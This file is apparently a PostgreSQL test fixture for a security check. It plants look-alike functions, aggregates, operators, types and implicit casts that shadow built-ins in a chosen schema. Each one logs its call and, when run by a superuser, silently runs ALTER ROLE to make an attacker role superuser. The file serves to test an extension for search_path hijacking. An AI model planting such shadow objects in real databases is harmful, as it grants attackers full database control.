-- Hostile objects for security.sh check 1 (nothing user-defined runs). Run by the role
-- that plants them, with psql variables
--   s         the schema to plant into (a synced schema, public, or pg_temp)
--   attacker  the role the planted code tries to make superuser
-- Every planted function, aggregate, operator and cast first calls <s>.psh_hit(what),
-- which writes a row into public.rt_log and, when it runs as a superuser, runs
-- ALTER ROLE <attacker> SUPERUSER. Each one then returns the real result (never raises),
-- so a hijacked call succeeds silently: the log and pg_roles are what tell.
-- Prints one line: "planted <n>". Types are written pg_catalog.* everywhere here
-- because pg_temp is searched first for types.
\set ON_ERROR_STOP 1
SET client_min_messages = warning;
SET search_path = pg_catalog;
SELECT pg_catalog.set_config('psh.s', :'s', false), pg_catalog.set_config('psh.attacker', :'attacker', false) \gset psh_
DO $plant$
DECLARE
  s pg_catalog.text := pg_catalog.current_setting('psh.s');
  qs pg_catalog.text := pg_catalog.quote_ident(pg_catalog.current_setting('psh.s'));
  att pg_catalog.text := pg_catalog.current_setting('psh.attacker');
  n pg_catalog.int4 := 0;
  i pg_catalog.int4 := 0;
  r record;
  t pg_catalog.text;
  x pg_catalog.text;
  fn pg_catalog.text;
  -- the body of every planted function: log, then compute the real value
  body CONSTANT pg_catalog.text := $b$
BEGIN
  PERFORM %1$s.psh_hit(%2$L);
  BEGIN
    RETURN %3$s;
  EXCEPTION WHEN OTHERS THEN
    RETURN NULL;
  END;
END$b$;
  body_void CONSTANT pg_catalog.text := $b$
BEGIN
  PERFORM %1$s.psh_hit(%2$L);
  BEGIN
    PERFORM %3$s;
  EXCEPTION WHEN OTHERS THEN
    NULL;
  END;
END$b$;
  builtins CONSTANT pg_catalog.text[] := ARRAY['text', 'varchar', 'int4', 'int8', 'numeric', 'uuid', 'bool', 'name', 'bpchar'];
  cast_targets CONSTANT pg_catalog.text[] := ARRAY['text', 'varchar', 'bpchar', 'name', 'int2', 'int4', 'int8', 'numeric', 'uuid', 'bool', 'float8', 'jsonb'];
  cast_sources CONSTANT pg_catalog.text[] := ARRAY['text', 'varchar', '"char"', 'name', 'bpchar', 'int2', 'int4', 'int8', 'numeric', 'uuid', 'bool', 'oid', 'float4', 'float8'];
BEGIN
  -- the logger
  EXECUTE pg_catalog.format($f$
CREATE FUNCTION %1$s.psh_hit(what pg_catalog.text) RETURNS void
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $h$
BEGIN
  INSERT INTO public.rt_log (who, what) VALUES (CURRENT_USER, what);
  IF (SELECT r.rolsuper FROM pg_catalog.pg_roles AS r WHERE r.rolname = CURRENT_USER) THEN
    BEGIN
      EXECUTE %2$L;
    EXCEPTION WHEN OTHERS THEN
      NULL;
    END;
  END IF;
EXCEPTION WHEN OTHERS THEN
  NULL;
END$h$$f$, qs, pg_catalog.format('ALTER ROLE %I SUPERUSER', att));

  -- functions the extension's SQL calls, with the argument types it calls them with
  FOR r IN SELECT * FROM (VALUES
    ('jsonb_build_array', 'pg_catalog.int4, pg_catalog.text', 'pg_catalog.jsonb', 'pg_catalog.jsonb_build_array($1, $2)'),
    ('jsonb_build_array', 'pg_catalog.text, pg_catalog.text', 'pg_catalog.jsonb', 'pg_catalog.jsonb_build_array($1, $2)'),
    ('jsonb_build_array', 'pg_catalog.name, pg_catalog.name, pg_catalog.int4', 'pg_catalog.jsonb', 'pg_catalog.jsonb_build_array($1, $2, $3)'),
    ('jsonb_build_object', 'pg_catalog.text, pg_catalog.text', 'pg_catalog.jsonb', 'pg_catalog.jsonb_build_object($1, $2)'),
    ('jsonb_build_object', 'pg_catalog.text, pg_catalog.name, pg_catalog.text, pg_catalog.name, pg_catalog.text, pg_catalog.text, pg_catalog.text, pg_catalog.float4, pg_catalog.text, pg_catalog.int4, pg_catalog.text, pg_catalog.text, pg_catalog.text, pg_catalog.jsonb, pg_catalog.text, pg_catalog.jsonb, pg_catalog.text, pg_catalog.jsonb, pg_catalog.text, pg_catalog.jsonb',
       'pg_catalog.jsonb', 'pg_catalog.jsonb_build_object($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12, $13, $14, $15, $16, $17, $18, $19, $20)'),
    ('json_build_object', 'pg_catalog.text, pg_catalog.text, pg_catalog.text, pg_catalog.text, pg_catalog.text, pg_catalog.text', 'pg_catalog.json', 'pg_catalog.json_build_object($1, $2, $3, $4, $5, $6)'),
    ('btrim', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.btrim($1)'),
    ('btrim', 'pg_catalog.varchar', 'pg_catalog.text', 'pg_catalog.btrim($1)'),
    ('btrim', 'pg_catalog.text, pg_catalog.text', 'pg_catalog.text', 'pg_catalog.btrim($1, $2)'),
    ('starts_with', 'pg_catalog.text, pg_catalog.text', 'pg_catalog.bool', 'pg_catalog.starts_with($1, $2)'),
    ('pg_get_userbyid', 'pg_catalog.oid', 'pg_catalog.name', 'pg_catalog.pg_get_userbyid($1)'),
    ('lower', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.lower($1)'),
    ('lower', 'pg_catalog.varchar', 'pg_catalog.text', 'pg_catalog.lower($1)'),
    ('upper', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.upper($1)'),
    ('trunc', 'pg_catalog.numeric', 'pg_catalog.numeric', 'pg_catalog.trunc($1)'),
    ('trunc', 'pg_catalog.float8', 'pg_catalog.float8', 'pg_catalog.trunc($1)'),
    ('substr', 'pg_catalog.text, pg_catalog.int4, pg_catalog.int4', 'pg_catalog.text', 'pg_catalog.substr($1, $2, $3)'),
    ('substr', 'pg_catalog.text, pg_catalog.int4', 'pg_catalog.text', 'pg_catalog.substr($1, $2)'),
    ('make_date', 'pg_catalog.int4, pg_catalog.int4, pg_catalog.int4', 'pg_catalog.date', 'pg_catalog.make_date($1, $2, $3)'),
    ('make_timestamp', 'pg_catalog.int4, pg_catalog.int4, pg_catalog.int4, pg_catalog.int4, pg_catalog.int4, pg_catalog.float8', 'pg_catalog.timestamp', 'pg_catalog.make_timestamp($1, $2, $3, $4, $5, $6)'),
    ('date_part', 'pg_catalog.text, pg_catalog.timestamp', 'pg_catalog.float8', 'pg_catalog.date_part($1, $2)'),
    ('date_part', 'pg_catalog.text, pg_catalog.date', 'pg_catalog.float8', 'pg_catalog.date_part($1, $2::pg_catalog.timestamp)'),
    ('format', 'pg_catalog.text, pg_catalog.text, pg_catalog.text, pg_catalog.text', 'pg_catalog.text', 'pg_catalog.format($1, $2, $3, $4)'),
    ('format', 'pg_catalog.text, pg_catalog.text', 'pg_catalog.text', 'pg_catalog.format($1, $2)'),
    ('set_config', 'pg_catalog.text, pg_catalog.text, pg_catalog.bool', 'pg_catalog.text', 'pg_catalog.set_config($1, $2, $3)'),
    ('current_setting', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.current_setting($1)'),
    ('current_setting', 'pg_catalog.text, pg_catalog.bool', 'pg_catalog.text', 'pg_catalog.current_setting($1, $2)'),
    ('to_regclass', 'pg_catalog.text', 'pg_catalog.regclass', 'pg_catalog.to_regclass($1)'),
    ('obj_description', 'pg_catalog.oid, pg_catalog.name', 'pg_catalog.text', 'pg_catalog.obj_description($1, $2)'),
    ('obj_description', 'pg_catalog.oid, pg_catalog.text', 'pg_catalog.text', 'pg_catalog.obj_description($1, $2::pg_catalog.name)'),
    ('col_description', 'pg_catalog.oid, pg_catalog.int2', 'pg_catalog.text', 'pg_catalog.col_description($1, $2)'),
    ('col_description', 'pg_catalog.oid, pg_catalog.int4', 'pg_catalog.text', 'pg_catalog.col_description($1, $2)'),
    ('has_table_privilege', 'pg_catalog.oid, pg_catalog.text', 'pg_catalog.bool', 'pg_catalog.has_table_privilege($1, $2)'),
    ('has_table_privilege', 'pg_catalog.text, pg_catalog.text', 'pg_catalog.bool', 'pg_catalog.has_table_privilege($1, $2)'),
    ('has_column_privilege', 'pg_catalog.oid, pg_catalog.int2, pg_catalog.text', 'pg_catalog.bool', 'pg_catalog.has_column_privilege($1, $2, $3)'),
    ('has_any_column_privilege', 'pg_catalog.oid, pg_catalog.text', 'pg_catalog.bool', 'pg_catalog.has_any_column_privilege($1, $2)'),
    ('has_schema_privilege', 'pg_catalog.oid, pg_catalog.text', 'pg_catalog.bool', 'pg_catalog.has_schema_privilege($1, $2)'),
    ('pg_has_role', 'pg_catalog.oid, pg_catalog.text', 'pg_catalog.bool', 'pg_catalog.pg_has_role($1, $2)'),
    ('quote_ident', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.quote_ident($1)'),
    ('quote_literal', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.quote_literal($1)'),
    ('pg_notify', 'pg_catalog.text, pg_catalog.text', 'void', 'pg_catalog.pg_notify($1, $2)'),
    ('now', '', 'pg_catalog.timestamptz', 'pg_catalog.now()'),
    ('length', 'pg_catalog.text', 'pg_catalog.int4', 'pg_catalog.length($1)'),
    ('regexp_replace', 'pg_catalog.text, pg_catalog.text, pg_catalog.text, pg_catalog.text', 'pg_catalog.text', 'pg_catalog.regexp_replace($1, $2, $3, $4)'),
    ('replace', 'pg_catalog.text, pg_catalog.text, pg_catalog.text', 'pg_catalog.text', 'pg_catalog.replace($1, $2, $3)'),
    ('abs', 'pg_catalog.numeric', 'pg_catalog.numeric', 'pg_catalog.abs($1)'),
    ('round', 'pg_catalog.numeric', 'pg_catalog.numeric', 'pg_catalog.round($1)'),
    ('round', 'pg_catalog.float8', 'pg_catalog.float8', 'pg_catalog.round($1)'),
    ('floor', 'pg_catalog.float8', 'pg_catalog.float8', 'pg_catalog.floor($1)'),
    ('isfinite', 'pg_catalog.timestamp', 'pg_catalog.bool', 'pg_catalog.isfinite($1)')
  ) AS v(name, args, ret, real) LOOP
    i := i + 1;
    EXECUTE pg_catalog.format('CREATE FUNCTION %s.%I(%s) RETURNS %s LANGUAGE plpgsql %s SET search_path = pg_catalog, pg_temp AS %L',
      qs, r.name, r.args, r.ret,
      CASE WHEN r.ret = 'void' OR r.name IN ('set_config', 'now', 'current_setting', 'to_regclass', 'obj_description', 'col_description') OR r.name LIKE 'has\_%' OR r.name = 'pg_has_role' THEN 'VOLATILE' ELSE 'IMMUTABLE' END,
      pg_catalog.format(CASE WHEN r.ret = 'void' THEN body_void ELSE body END,
        qs, pg_catalog.format('function %s.%s(%s)', s, r.name, r.args), r.real));
    n := n + 1;
  END LOOP;

  -- aggregates: jsonb_agg(jsonb) beats pg_catalog.jsonb_agg(anyelement), count(text) beats count("any")
  FOR r IN SELECT * FROM (VALUES
    ('jsonb_agg', 'pg_catalog.jsonb', 'pg_catalog.jsonb', '''[]''', 'pg_catalog.jsonb_build_array($2) OPERATOR(pg_catalog.||) $1'),
    ('jsonb_agg', 'pg_catalog.text', 'pg_catalog.jsonb', '''[]''', 'pg_catalog.jsonb_build_array($2) OPERATOR(pg_catalog.||) $1'),
    ('jsonb_agg', 'pg_catalog.name', 'pg_catalog.jsonb', '''[]''', 'pg_catalog.jsonb_build_array($2) OPERATOR(pg_catalog.||) $1'),
    ('jsonb_object_agg', 'pg_catalog.name, pg_catalog.text', 'pg_catalog.jsonb', '''{}''', '$1 OPERATOR(pg_catalog.||) pg_catalog.jsonb_build_object($2, $3)'),
    ('array_agg', 'pg_catalog.text', 'pg_catalog.text[]', '''{}''', 'pg_catalog.array_append($1, $2)'),
    ('array_agg', 'pg_catalog.name', 'pg_catalog.name[]', '''{}''', 'pg_catalog.array_append($1, $2)'),
    ('count', 'pg_catalog.text', 'pg_catalog.int8', '0', '$1 OPERATOR(pg_catalog.+) 1'),
    ('count', 'pg_catalog.varchar', 'pg_catalog.int8', '0', '$1 OPERATOR(pg_catalog.+) 1'),
    ('count', 'pg_catalog.int4', 'pg_catalog.int8', '0', '$1 OPERATOR(pg_catalog.+) 1'),
    ('count', 'pg_catalog.int8', 'pg_catalog.int8', '0', '$1 OPERATOR(pg_catalog.+) 1'),
    ('count', 'pg_catalog.numeric', 'pg_catalog.int8', '0', '$1 OPERATOR(pg_catalog.+) 1'),
    ('count', 'pg_catalog.uuid', 'pg_catalog.int8', '0', '$1 OPERATOR(pg_catalog.+) 1')
  ) AS v(name, args, stype, init, step) LOOP
    i := i + 1;
    fn := pg_catalog.format('psh_agg_%s', i);
    EXECUTE pg_catalog.format('CREATE FUNCTION %s.%I(%s, %s) RETURNS %s LANGUAGE plpgsql IMMUTABLE SET search_path = pg_catalog, pg_temp AS %L',
      qs, fn, r.stype, r.args, r.stype,
      pg_catalog.format(body, qs, pg_catalog.format('aggregate %s.%s(%s)', s, r.name, r.args), r.step));
    EXECUTE pg_catalog.format('CREATE AGGREGATE %s.%I(%s) (SFUNC = %s.%I, STYPE = %s, INITCOND = %s)',
      qs, r.name, r.args, qs, fn, r.stype, r.init);
    n := n + 1;
  END LOOP;

  -- operators, over the argument types the extension applies them to
  FOR r IN SELECT * FROM (VALUES
    ('=', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.bool'),
    ('=', 'pg_catalog.varchar', 'pg_catalog.text', 'pg_catalog.bool'),
    ('=', 'pg_catalog.text', 'pg_catalog.varchar', 'pg_catalog.bool'),
    ('=', 'pg_catalog.varchar', 'pg_catalog.varchar', 'pg_catalog.bool'),
    ('=', 'pg_catalog.name', 'pg_catalog.text', 'pg_catalog.bool'),
    ('=', 'pg_catalog.name', 'pg_catalog.name', 'pg_catalog.bool'),
    ('=', 'pg_catalog.uuid', 'pg_catalog.uuid', 'pg_catalog.bool'),
    ('=', 'pg_catalog.numeric', 'pg_catalog.numeric', 'pg_catalog.bool'),
    ('=', 'pg_catalog.numeric', 'pg_catalog.int4', 'pg_catalog.bool'),
    ('=', 'pg_catalog.int4', 'pg_catalog.int4', 'pg_catalog.bool'),
    ('=', 'pg_catalog.int4', 'pg_catalog.int8', 'pg_catalog.bool'),
    ('=', 'pg_catalog.int8', 'pg_catalog.int8', 'pg_catalog.bool'),
    ('=', 'pg_catalog.int2', 'pg_catalog.int4', 'pg_catalog.bool'),
    ('=', 'pg_catalog.int2', 'pg_catalog.int2', 'pg_catalog.bool'),
    ('=', 'pg_catalog.oid', 'pg_catalog.oid', 'pg_catalog.bool'),
    ('=', 'pg_catalog.oid', 'pg_catalog.regclass', 'pg_catalog.bool'),
    ('<>', 'pg_catalog.oid', 'pg_catalog.oid', 'pg_catalog.bool'),
    ('<>', 'pg_catalog.oid', 'pg_catalog.regnamespace', 'pg_catalog.bool'),
    ('=', 'pg_catalog."char"', 'pg_catalog."char"', 'pg_catalog.bool'),
    ('<>', 'pg_catalog."char"', 'pg_catalog."char"', 'pg_catalog.bool'),
    ('<>', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.bool'),
    ('>=', 'pg_catalog.numeric', 'pg_catalog.int4', 'pg_catalog.bool'),
    ('<=', 'pg_catalog.numeric', 'pg_catalog.int4', 'pg_catalog.bool'),
    ('>=', 'pg_catalog.numeric', 'pg_catalog.int8', 'pg_catalog.bool'),
    ('<=', 'pg_catalog.numeric', 'pg_catalog.int8', 'pg_catalog.bool'),
    ('>=', 'pg_catalog.numeric', 'pg_catalog.numeric', 'pg_catalog.bool'),
    ('<=', 'pg_catalog.numeric', 'pg_catalog.numeric', 'pg_catalog.bool'),
    ('>=', 'pg_catalog.int4', 'pg_catalog.int4', 'pg_catalog.bool'),
    ('<=', 'pg_catalog.int4', 'pg_catalog.int4', 'pg_catalog.bool'),
    ('<=', 'pg_catalog.int4', 'pg_catalog.float8', 'pg_catalog.bool'),
    ('>=', 'pg_catalog.int4', 'pg_catalog.float8', 'pg_catalog.bool'),
    ('<', 'pg_catalog.float8', 'pg_catalog.int4', 'pg_catalog.bool'),
    ('>', 'pg_catalog.float8', 'pg_catalog.int4', 'pg_catalog.bool'),
    ('<', 'pg_catalog.int4', 'pg_catalog.int4', 'pg_catalog.bool'),
    ('>', 'pg_catalog.int4', 'pg_catalog.int4', 'pg_catalog.bool'),
    ('>', 'pg_catalog.int2', 'pg_catalog.int4', 'pg_catalog.bool'),
    ('<', 'pg_catalog.numeric', 'pg_catalog.int4', 'pg_catalog.bool'),
    ('>', 'pg_catalog.numeric', 'pg_catalog.int4', 'pg_catalog.bool'),
    ('~', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.bool'),
    ('~', 'pg_catalog.varchar', 'pg_catalog.text', 'pg_catalog.bool'),
    ('~', 'pg_catalog.name', 'pg_catalog.text', 'pg_catalog.bool'),
    ('!~', 'pg_catalog.name', 'pg_catalog.text', 'pg_catalog.bool'),
    ('!~', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.bool'),
    ('~~', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.bool'),
    ('~*', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.bool'),
    ('||', 'pg_catalog.text', 'pg_catalog.text', 'pg_catalog.text'),
    ('||', 'pg_catalog.text', 'pg_catalog.int4', 'pg_catalog.text'),
    ('||', 'pg_catalog.jsonb', 'pg_catalog.jsonb', 'pg_catalog.jsonb'),
    ('+', 'pg_catalog.date', 'pg_catalog.interval', 'pg_catalog.timestamp'),
    ('+', 'pg_catalog.timestamp', 'pg_catalog.interval', 'pg_catalog.timestamp'),
    ('+', 'pg_catalog.int4', 'pg_catalog.int4', 'pg_catalog.int4'),
    ('-', 'pg_catalog.timestamp', 'pg_catalog.interval', 'pg_catalog.timestamp'),
    ('-', 'pg_catalog.date', 'pg_catalog.interval', 'pg_catalog.timestamp'),
    ('-', 'pg_catalog.int4', 'pg_catalog.int4', 'pg_catalog.int4'),
    ('*', 'pg_catalog.int4', 'pg_catalog.int4', 'pg_catalog.int4'),
    ('%', 'pg_catalog.int4', 'pg_catalog.int4', 'pg_catalog.int4')
  ) AS v(op, l, rt, ret) LOOP
    i := i + 1;
    fn := pg_catalog.format('psh_op_%s', i);
    EXECUTE pg_catalog.format('CREATE FUNCTION %s.%I(a %s, b %s) RETURNS %s LANGUAGE plpgsql IMMUTABLE SET search_path = pg_catalog, pg_temp AS %L',
      qs, fn, r.l, r.rt, r.ret,
      pg_catalog.format(body, qs, pg_catalog.format('operator %s.%s(%s, %s)', s, r.op, r.l, r.rt),
        pg_catalog.format('a OPERATOR(pg_catalog.%s) b', r.op)));
    EXECUTE pg_catalog.format('CREATE OPERATOR %s.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %s.%I)',
      qs, r.op, r.l, r.rt, qs, fn);
    n := n + 1;
  END LOOP;

  -- types named like built-ins, with casts out of them (implicit) to the built-ins and
  -- into them from the built-ins (so an unqualified ::text that finds pg_temp.text runs ours)
  FOREACH t IN ARRAY builtins LOOP
    EXECUTE pg_catalog.format('CREATE TYPE %s.%I AS (v pg_catalog.%s)', qs, t, t);
    n := n + 1;
    FOREACH x IN ARRAY cast_targets LOOP
      i := i + 1;
      fn := pg_catalog.format('psh_cast_%s', i);
      EXECUTE pg_catalog.format('CREATE FUNCTION %s.%I(a %s.%I) RETURNS pg_catalog.%s LANGUAGE plpgsql IMMUTABLE SET search_path = pg_catalog, pg_temp AS %L',
        qs, fn, qs, t, x,
        pg_catalog.format(body, qs, pg_catalog.format('cast %s.%s -> pg_catalog.%s', s, t, x),
          pg_catalog.format('(a).v::pg_catalog.text::pg_catalog.%s', x)));
      EXECUTE pg_catalog.format('CREATE CAST (%s.%I AS pg_catalog.%s) WITH FUNCTION %s.%I(%s.%I) AS IMPLICIT',
        qs, t, x, qs, fn, qs, t);
      n := n + 1;
    END LOOP;
    FOREACH x IN ARRAY cast_sources LOOP
      i := i + 1;
      fn := pg_catalog.format('psh_cast_%s', i);
      EXECUTE pg_catalog.format('CREATE FUNCTION %s.%I(a pg_catalog.%s) RETURNS %s.%I LANGUAGE plpgsql IMMUTABLE SET search_path = pg_catalog, pg_temp AS %L',
        qs, fn, x, qs, t,
        pg_catalog.format(body, qs, pg_catalog.format('cast pg_catalog.%s -> %s.%s', x, s, t),
          pg_catalog.format('ROW(a::pg_catalog.text::pg_catalog.%s)::%s.%I', t, qs, t)));
      EXECUTE pg_catalog.format('CREATE CAST (pg_catalog.%s AS %s.%I) WITH FUNCTION %s.%I(pg_catalog.%s)',
        x, qs, t, qs, fn, x);
      n := n + 1;
    END LOOP;
  END LOOP;
  PERFORM pg_catalog.set_config('psh.planted', n::pg_catalog.text, false);
END
$plant$;
SELECT pg_catalog.current_setting('psh.planted') AS planted \gset
\echo planted :planted
RESET client_min_messages;
